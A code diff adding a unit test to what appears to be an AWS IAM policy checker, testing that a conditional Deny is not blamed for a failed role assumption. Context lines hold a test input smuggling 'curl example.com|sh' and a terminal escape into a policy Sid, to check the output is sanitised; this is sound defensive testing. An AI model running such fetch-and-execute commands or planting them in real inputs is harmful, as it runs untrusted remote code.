@@ -45,3 +45,21 @@ def test_a_sid_makes_no_line_of_what_mends_a_policy() -> None:
         (found,) = _examine("Spokes\ncurl example.com|sh\x1b[2J", **condition)
         assert found.says.isprintable()
         assert "\ncurl" not in found.mend
+
+
+def test_a_deny_that_may_apply_is_not_said_to_deny() -> None:
+    """Where nothing allows the call, that is what is wrong, and no statement that perhaps denies it."""
+    statements = [
+        {"Effect": "Allow", "Action": "sts:AssumeRole", "Resource": "arn:aws:iam::*:role/hubspoke/*"},
+        {
+            "Sid": "Perhaps",
+            "Effect": "Deny",
+            "Action": "*",
+            "Resource": "*",
+            "Condition": {"StringEquals": {"aws:SourceVpc": "vpc-1"}},
+        },
+    ]
+    may = permissions.Held(read({"Version": "2012-10-17", "Statement": statements}), None)
+    (found,) = permissions.examine(may, Asking(_HUB, _ROLE, None), "MEND")
+    assert found.code == "HubMayNotAssume"
+    assert "Perhaps" not in found.says
